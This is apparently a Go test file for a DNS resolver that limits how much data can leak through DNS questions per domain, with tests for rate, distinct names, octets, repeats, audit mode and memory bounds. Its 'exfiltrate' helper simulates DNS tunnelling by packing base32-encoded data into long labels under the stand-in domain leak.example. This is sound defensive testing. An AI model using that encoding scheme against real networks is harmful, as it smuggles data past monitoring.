package resolver

import (
	"encoding/base32"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/miekg/dns"

	"github.com/weir-dev/weir/internal/testdns"
)

// budgeted is an enforcing server whose upstream knows every name below leak.example and counts what reaches it.
func budgeted(t *testing.T) (*Server, *spy, *[]string) {
	t.Helper()
	up := &spy{Upstream: anyName{}}
	s, _ := enforcing(up)
	alerts := &[]string{}
	var mu sync.Mutex
	s.Alert = func(domain string) {
		mu.Lock()
		defer mu.Unlock()
		*alerts = append(*alerts, domain)
	}
	return s, up, alerts
}

// leaked is how many octets of names reached the upstream.
func (s *spy) leaked() (octets, different int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	seen := map[string]bool{}
	for _, q := range s.got {
		octets += len(q.Question[0].Name)
		seen[q.Question[0].Name] = true
	}
	return octets, len(seen)
}

func TestBudgetOfQuestionsPerSecond(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, up, alerts := budgeted(t)
		refused := 0
		for range BudgetBurst + 500 {
			r := send(t, s, testdns.Question("api.leak.example", dns.TypeA, 1232))
			if r.Rcode == dns.RcodeRefused {
				refused++
				if ede := r.IsEdns0().Option[0].(*dns.EDNS0_EDE); ede.InfoCode != dns.ExtendedErrorCodeProhibited {
					t.Fatalf("extended error %v", ede)
				}
			}
		}
		if refused != 500 || len(up.got) != BudgetBurst || !slices.Equal(*alerts, []string{"leak.example"}) {
			t.Errorf("%d refused, %d asked, alerts %v", refused, len(up.got), *alerts)
		}
		if r := send(t, s, testdns.Question("api.leak.example", dns.TypeA, 0)); r.Rcode != dns.RcodeRefused || r.IsEdns0() != nil {
			t.Errorf("without EDNS: %v", r)
		}
		if r := send(t, s, testdns.Question("other.example", dns.TypeA, 0)); r.Rcode != dns.RcodeSuccess {
			t.Errorf("another domain pays for it: %v", r)
		}
		time.Sleep(time.Second)
		for i := range BudgetRate + 1 {
			r := send(t, s, testdns.Question("api.leak.example", dns.TypeA, 0))
			if want := i < BudgetRate; (r.Rcode == dns.RcodeSuccess) != want {
				t.Errorf("question %d a second later: %s", i, rcodeName(r.Rcode))
			}
		}
		if n := s.Counters()["over-budget"]; n != 502 {
			t.Errorf("counted %d", n)
		}
	})
}

// Names in the spelling of another case, and types, are different questions or not as they leak.
func TestBudgetOfDifferentQuestions(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, up, _ := budgeted(t)
		asked := 0
		ask := func(name string, qtype uint16) int {
			if asked++; asked%BudgetRate == 0 {
				time.Sleep(time.Second)
			}
			return send(t, s, testdns.Question(name, qtype, 0)).Rcode
		}
		for i := range BudgetQuestions / 2 {
			for _, qtype := range []uint16{dns.TypeA, dns.TypeTXT} {
				if got := ask(fmt.Sprintf("n%d.leak.example", i), qtype); got != dns.RcodeSuccess {
					t.Fatalf("name %d: %s", i, rcodeName(got))
				}
			}
		}
		if got := ask("one.more.leak.example", dns.TypeA); got != dns.RcodeRefused {
			t.Errorf("one more name: %s", rcodeName(got))
		}
		if got := ask("n0.leak.example", dns.TypeMX); got != dns.RcodeRefused {
			t.Errorf("one more type: %s", rcodeName(got))
		}
		if got := ask("N0.LEAK.example", dns.TypeA); got != dns.RcodeSuccess {
			t.Errorf("a name that was asked before: %s", rcodeName(got))
		}
		if last := up.got[len(up.got)-1].Question[0].Name; last != "n0.leak.example." {
			t.Errorf("%s left: the case of its letters is a way out", last)
		}
		if n := s.Counters()["bulky-types"]; n != BudgetQuestions/2 {
			t.Errorf("%d questions of type TXT counted", n)
		}
		time.Sleep(BudgetWindow)
		if got := ask("one.more.leak.example", dns.TypeA); got != dns.RcodeSuccess {
			t.Errorf("an hour later: %s", rcodeName(got))
		}
	})
}

// TestBudgetOfOctets sends out as much as it can, as a program would that has all the time of the world.
func TestBudgetOfOctets(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, up, alerts := budgeted(t)
		sent := exfiltrate(t, s, time.Now().Add(3*BudgetWindow))
		octets, _ := up.leaked()
		if octets > 3*BudgetOctets || octets < 2*BudgetOctets || sent > octets {
			t.Errorf("%d octets of names left in three windows, %d of them data, with a budget of %d", octets, sent, BudgetOctets)
		}
		if len(*alerts) != 3 {
			t.Errorf("%d alerts in three windows", len(*alerts))
		}
		t.Logf("%d octets of data in 3 h: %d bytes/s", sent, sent/3/3600)
	})
}

// exfiltrate encodes data into the longest names there are and returns how many octets of it got through.
func exfiltrate(t *testing.T, s *Server, until time.Time) (sent int) {
	for i := 0; time.Now().Before(until); i++ {
		data := []byte(fmt.Sprintf("%0100d", i))
		text := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(data))
		name := text[:60] + "." + text[60:120] + "." + text[120:160] + ".leak.example"
		if send(t, s, testdns.Question(name, dns.TypeA, 0)).Rcode == dns.RcodeSuccess {
			sent += len(data)
			continue
		}
		time.Sleep(time.Minute)
	}
	return sent
}

// Which of the known questions is asked carries something out: as many bits as it takes to say which. A program that has one
// name and asks for it at each connection says nothing.
func TestBudgetOfRepeats(t *testing.T) {
	for _, c := range []struct {
		name        string
		known, bits int
	}{
		{"one question", 1, 0},
		{"two addresses of one name", 2, 1},
		{"a codebook", 1024, 10},
	} {
		t.Run(c.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				s, up, _ := budgeted(t)
				ask := func(i int) {
					send(t, s, testdns.Question(fmt.Sprintf("n%d.leak.example", i), dns.TypeA, 0))
					time.Sleep(time.Second / BudgetRate)
				}
				left := 8 * BudgetOctets
				for i := range c.known {
					ask(i)
					left -= 8 * (len(fmt.Sprintf("n%d.leak.example.", i)) + 2)
				}
				before, tries := len(up.got), 40_000
				for i := range tries {
					ask(i % c.known)
				}
				want := tries
				if c.bits > 0 {
					want = min(tries, left/c.bits)
				}
				if n := len(up.got) - before; n != want {
					t.Errorf("%d repeats left, want %d", n, want)
				}
			})
		})
	}
}

// What the policy keeps does not count as leaked, whatever it is, but too many of it are told so.
func TestBudgetOfDeniedNames(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, up, alerts := budgeted(t)
		for i := range DeniedBurst {
			if r := send(t, s, testdns.Question(fmt.Sprintf("n%d.evil.test", i), dns.TypeA, 0)); r.Rcode != dns.RcodeNameError {
				t.Fatalf("name %d: %s", i, rcodeName(r.Rcode))
			}
		}
		r := send(t, s, testdns.Question("one.more.test", dns.TypeA, 0))
		if r.Rcode != dns.RcodeRefused || len(up.got) != 0 || !slices.Equal(*alerts, []string{deniedDomains}) {
			t.Errorf("%s, %d asked, alerts %v", rcodeName(r.Rcode), len(up.got), *alerts)
		}
		if r := send(t, s, testdns.Question("api.leak.example", dns.TypeA, 0)); r.Rcode != dns.RcodeSuccess {
			t.Errorf("an allowed name: %s", rcodeName(r.Rcode))
		}
	})
}

// In audit nothing is refused, and everything is said.
func TestBudgetInAudit(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, rec := auditing(anyName{})
		told := 0
		s.Alert = func(string) { told++ }
		for range BudgetBurst + 1 {
			if r := send(t, s, testdns.Question("api.leak.example", dns.TypeA, 0)); r.Rcode != dns.RcodeSuccess {
				t.Fatal(r)
			}
		}
		last := rec.list()[BudgetBurst]
		if last.Verdict != "would-deny" || last.Reason != "limit" || last.Rule != ruleQueries || told != 1 {
			t.Errorf("recorded %+v, told %d times", last, told)
		}
	})
}

// The budget holds on every way to a server: weir's own questions for a claim, and servers that the program chose.
func TestBudgetOfConfirm(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, up, _ := budgeted(t)
		for i := range BudgetQuestions + 10 {
			s.Confirm(t.Context(), "direct", fmt.Sprintf("n%d.leak.example", i), addrs("192.0.2.1")[0])
			if i%BudgetRate == 0 {
				time.Sleep(time.Second)
			}
		}
		if len(up.got) != BudgetQuestions {
			t.Errorf("%d questions left for claims", len(up.got))
		}
	})
}

func TestBudgetOfWatch(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, rec := enforcing(anyName{})
		w := startWatch(t, s, "udp")
		left := 0
		for i := range 400 {
			q := testdns.Question(fmt.Sprintf("n%d.leak.example", i), dns.TypeA, 1232)
			q.IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_LOCAL{Code: 65001, Data: make([]byte, 300)}}
			go w.client.Write(packed(t, q))
			if raw := receive(w.server); raw != nil {
				left += len(raw)
				continue
			}
			if r := unpacked(t, receive(w.client)); r.Rcode != dns.RcodeRefused {
				t.Fatalf("question %d: %v", i, r)
			}
		}
		if left > BudgetOctets+400*(headerLen+len("n000.leak.example..")+4+11) || left < BudgetOctets/2 {
			t.Errorf("%d octets left for a server of the program's choice", left)
		}
		w.end()
		if last := rec.list()[0]; last.Reason != "limit" || last.Verdict != "deny" {
			t.Errorf("recorded %+v", last)
		}
	})
}

// The budget's own memory is bounded, and what is beyond it is bounded as well.
func TestBudgetIsBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var b budget
		ask := func(domain, name string) string {
			over, _, _ := b.spend(domain, dns.Question{Name: name, Qtype: dns.TypeA}, 0, 0)
			return over
		}
		for i := range maxDomains {
			if over := ask(fmt.Sprint("d", i), "x."); over != "" {
				t.Fatalf("domain %d: %s", i, over)
			}
		}
		refused := 0
		for i := range BudgetQuestions + 100 {
			if ask(fmt.Sprint("more", i), fmt.Sprint("n", i, ".")) != "" {
				refused++
			}
			time.Sleep(10 * time.Millisecond)
		}
		if refused != 100 || len(b.domains) != maxDomains+1 || b.questions != maxDomains+BudgetQuestions {
			t.Errorf("%d refused beyond %d domains, %d kept, %d questions", refused, maxDomains, len(b.domains), b.questions)
		}
		for i := range 2 * maxQuestions {
			ask(fmt.Sprint("d", i%maxDomains), fmt.Sprint("n", i, "."))
		}
		if b.questions > maxQuestions {
			t.Errorf("%d questions are remembered", b.questions)
		}
		time.Sleep(BudgetWindow)
		if over := ask("new", "x."); over != "" || len(b.domains) > 2 || b.questions != 1 {
			t.Errorf("an hour later: %q, %d domains, %d questions", over, len(b.domains), b.questions)
		}
	})
}

func TestRegistrable(t *testing.T) {
	for name, want := range map[string]string{
		"api.github.com":                    "github.com",
		"example.co.uk":                     "example.co.uk",
		"a.b.example.co.uk":                 "example.co.uk",
		"user.github.io":                    "github.io",
		"a.b.user.github.io":                "github.io",
		"d111.cloudfront.net":               "cloudfront.net",
		"bucket.s3.eu-west-1.amazonaws.com": "amazonaws.com",
		"db.corp.internal":                  "corp.internal",
		"a.b.corp.internal":                 "corp.internal",
		"host":                              "host",
		"com":                               "com",
		"":                                  "",
		"1.2.0.192.in-addr.arpa":            "192.in-addr.arpa",
	} {
		if got := registrable(name); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}
